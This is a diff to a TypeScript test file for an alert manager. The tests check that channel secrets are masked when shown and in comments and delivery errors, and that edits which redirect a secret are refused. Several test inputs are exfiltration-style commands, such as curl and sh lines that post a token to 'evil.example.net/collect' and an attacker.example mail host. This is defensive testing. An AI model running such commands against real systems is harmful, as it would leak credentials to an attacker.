@@ -6,10 +6,13 @@
  * value with another type or destination is refused, naming the field, and nothing is written.
  */
 import { readFileSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { parse } from "yaml";
 import type { AlertManager } from "../../electron/monitor/alerts/alert-manager.js";
+import { storedSecretValues } from "../../electron/monitor/alerts/channels/secrets.js";
 import { SeriesSignalSource } from "../../electron/monitor/alerts/series-source.js";
 import type { Db } from "../../electron/monitor/store/db.js";
 import { tempDir } from "../helpers/mcp.js";
@@ -109,15 +112,19 @@ describe("a channel's secrets", () => {
     }
     expect(storedChannels()).toEqual(before);
 
-    // A new key in place of the masked one, a header added: the rest stays as stored.
-    const newKey = "sk-ant-api03-zyxwvutsrqponmlkjihgfedcba9876543210";
-    expect(
-      manager.putChannel(shownYaml("cmd").replace('"[masked:named-secret…6789]"', newKey), "cmd").ok,
-    ).toBe(true);
+    // A header added, a command's timeout added: the rest stays as stored.
+    expect(manager.putChannel(`${shownYaml("cmd")}timeout: 1m\n`, "cmd").ok).toBe(true);
     expect(manager.putChannel(`${shownYaml("ops")}  X-Team: platform\n`, "ops").ok).toBe(true);
+    expect(storedChannels()[1]).toMatchObject({ args: before[1]?.args, env: before[1]?.env, timeout: "1m" });
+    // A new key in the command line: its env is typed again with it.
+    const newKey = "sk-ant-api03-zyxwvutsrqponmlkjihgfedcba9876543210";
+    const retyped = shownYaml("cmd")
+      .replace('"[masked:named-secret…6789]"', newKey)
+      .replace("PAGER_TOKEN: ••••••", "PAGER_TOKEN: new-env-token");
+    expect(manager.putChannel(retyped, "cmd").ok).toBe(true);
     const [ops, cmd] = storedChannels();
     expect(cmd?.args).toEqual(["--api-key", newKey, "--verbose"]);
-    expect(cmd?.env).toEqual({ PAGER_TOKEN: SECRETS.env });
+    expect(cmd?.env).toEqual({ PAGER_TOKEN: "new-env-token" });
     expect(ops?.headers).toEqual({
       Authorization: `Bearer ${SECRETS.bearer}`,
       "X-Api-Key": SECRETS.header,
@@ -166,7 +173,7 @@ describe("a channel's secrets", () => {
     refused(
       shownYaml("cmd").replace("/bin/echo", "/usr/bin/curl"),
       "cmd",
-      "channel.args[1]: the destination changed; enter the secret again",
+      "channel.args[1]: the command line changed; enter the secret again",
     );
     refused(
       shownYaml("mail").replace("smtp.example.com", "smtp.attacker.example"),
@@ -215,5 +222,144 @@ describe("a channel's secrets", () => {
       url: "https://new.example/in",
       secret: "brand-new-secret",
     });
+  });
+
+  it("are refused when only an argument of a command changed: the arguments say where the data goes", () => {
+    const token = "tok-0123456789abcdefghij";
+    const curl = `name: curl\ntype: command\ncommand: curl\nargs: [-sS, -H, "Authorization: Bearer ${token}", --data-binary, "@-", "https://hooks.example.com/x"]\n`;
+    const sh = `name: sh\ntype: command\ncommand: sh\nargs: [-c, 'curl -H "Authorization: Bearer $TOKEN" https://hooks.example.com/x']\nenv: { TOKEN: ${SECRETS.env} }\n`;
+    expect(manager.putChannel(curl).ok).toBe(true);
+    expect(manager.putChannel(sh).ok).toBe(true);
+    const original = fileText();
+    const evil = "https://evil.example.net/collect";
+    expect(shownYaml("curl")).not.toContain(token);
+    expect(() =>
+      manager.putChannel(shownYaml("curl").replace("https://hooks.example.com/x", evil), "curl"),
+    ).toThrow("channel.args[2]: the command line changed; enter the secret again");
+    expect(() =>
+      manager.putChannel(shownYaml("sh").replace(/- 'curl -H .*/, `- 'curl -d "$TOKEN" ${evil}'`), "sh"),
+    ).toThrow("channel.env.TOKEN: the command line changed; enter the secret again");
+    // An argument added at the end changes the command line as much as one edited.
+    expect(() =>
+      manager.putChannel(
+        `${shownYaml("cmd").replace("  - --verbose\n", "  - --verbose\n  - --to=evil\n")}`,
+        "cmd",
+      ),
+    ).toThrow("the command line changed");
+    expect(fileText()).toBe(original);
+
+    // Shown as is, the command line keeps its secrets; with every secret typed again, it may change.
+    expect(manager.putChannel(shownYaml("curl"), "curl").ok).toBe(true);
+    expect(fileText()).toBe(original);
+    expect(manager.putChannel(sh.replace("https://hooks.example.com/x", evil), "sh").ok).toBe(true);
+    expect(storedChannels().find((c) => c.name === "sh")?.env).toEqual({ TOKEN: SECRETS.env });
+  });
+
+  it("are masked in place in the file text, so anchors and aliases in channels and rules still read", () => {
+    const anchored = `rules:
+  - name: slow
+    kind: metric
+    signal: latency_p95
+    threshold: &limit 2s
+  - name: slower
+    kind: metric
+    signal: latency_p95
+    threshold: *limit
+channels:
+  - name: a
+    type: webhook
+    url: https://hooks.example.com/a
+    headers: &h
+      Authorization: Bearer ${SECRETS.bearer}
+  - name: b
+    type: webhook
+    url: https://hooks.example.com/b
+    headers: *h
+  - name: m
+    type: email
+    host: smtp.example.com
+    from: a@example.com
+    to: b@example.com
+    password: &p ${SECRETS.smtp}
+  - name: c
+    type: command
+    command: notify
+    args: ["--x", *p]
+`;
+    writeFileSync(join(dir.path, "alerts.yaml"), anchored);
+    const { text, problem } = manager.rules();
+    expect(problem).toBeNull();
+    for (const secret of [SECRETS.bearer, SECRETS.smtp]) expect(text).not.toContain(secret);
+    expect(text).toContain("headers: &h\n      Authorization: ••••••\n");
+    expect(text).toContain("headers: *h\n");
+    expect(text).toContain("password: &p ••••••\n");
+    expect(text).toContain("threshold: &limit 2s\n");
+    expect(text).toContain("threshold: *limit\n");
+    // What is shown reads as the file does, with masks where the secrets were.
+    const read = parse(text) as { channels: Record<string, unknown>[]; rules: Record<string, unknown>[] };
+    expect(read.channels[1]?.headers).toEqual({ Authorization: "••••••" });
+    expect(read.channels[3]?.args).toEqual(["--x", "••••••"]);
+    expect(read.rules[1]?.threshold).toBe("2s");
+  });
+
+  it("are masked in every comment of the file text, and a rule whose comments hold one is shown printed", () => {
+    const slack = "https://hooks.slack.com/services/T0AAAAAAA/B0BBBBBBB/abcdefghijklmnopqrstuvwx";
+    const commented = `# top: the mail password is ${SECRETS.smtp}
+rules:
+  - name: r1   # was ${SECRETS.apiKey}
+    kind: event
+    type: "server.*"
+    # old slack hook ${slack}
+  - name: r2
+    kind: event
+    type: "alert.*"   # fine as it is
+${FILE}# trailing: ${SECRETS.env}
+`;
+    writeFileSync(join(dir.path, "alerts.yaml"), commented);
+    const document = manager.rules();
+    expect(document.problem).toBeNull();
+    for (const secret of [...Object.values(SECRETS), slack])
+      expect(JSON.stringify(document), secret).not.toContain(secret);
+    expect(document.text).toContain("# top: the mail password is ••••••");
+    expect(document.text).toContain("# trailing: ••••••");
+    expect(document.text).toContain("# old slack hook [masked:");
+    expect(document.text).toContain('type: "alert.*" # fine as it is');
+    // The rule editor: the printed entry where a comment would be masked, so saving it back writes no mask.
+    const yaml = (name: string) => document.rules.find((r) => r.name === name)?.yaml;
+    expect(yaml("r1")).toBe("name: r1\nkind: event\ntype: server.*\n");
+    expect(yaml("r2")).toBe('name: r2\nkind: event\ntype: "alert.*"   # fine as it is\n');
+  });
+
+  it("are taken out of what a delivery answers: a command echoing its env, a webhook echoing a header", async () => {
+    // What is taken out: every value masked where the channel is shown, however it is written.
+    const [ops, cmd, chat, mail] = storedChannels().map((c) => storedSecretValues(c));
+    expect(ops?.sort()).toEqual(
+      [SECRETS.query, SECRETS.signing, `Bearer ${SECRETS.bearer}`, SECRETS.header].sort(),
+    );
+    expect(cmd?.sort()).toEqual([SECRETS.apiKey, SECRETS.env].sort());
+    expect(chat).toEqual([SECRETS.slack]);
+    expect(mail).toEqual([SECRETS.smtp]);
+
+    const echo = `name: echo\ntype: command\ncommand: sh\nargs: [-c, 'echo "auth failed for token $PAGER_TOKEN" >&2; exit 1']\nenv: { PAGER_TOKEN: ${SECRETS.env} }\n`;
+    expect(manager.putChannel(echo).ok).toBe(true);
+    const delivery = await manager.test("echo");
+    expect(delivery.lastError).toBe("exit 1: auth failed for token ••••••");
+    expect(JSON.stringify(manager.channelsDocument())).not.toContain(SECRETS.env);
+
+    const server = createServer((request, response) => {
+      response.writeHead(401, { "content-type": "text/plain" });
+      response.end(`bad key ${request.headers["x-api-key"]} for /mcp`);
+    });
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    try {
+      const { port } = server.address() as AddressInfo;
+      const hook = `name: hook\ntype: webhook\nurl: http://127.0.0.1:${port}/mcp\nheaders: { X-Api-Key: ${SECRETS.header} }\n`;
+      expect(manager.putChannel(hook).ok).toBe(true);
+      const answered = await manager.test("hook");
+      expect(answered.lastError).toBe(`HTTP 401 from 127.0.0.1:${port}: bad key •••••• for /mcp`);
+      expect(JSON.stringify(manager.deliveries({ channel: "hook" }))).not.toContain(SECRETS.header);
+    } finally {
+      await new Promise((resolve) => server.close(resolve));
+    }
   });
 });
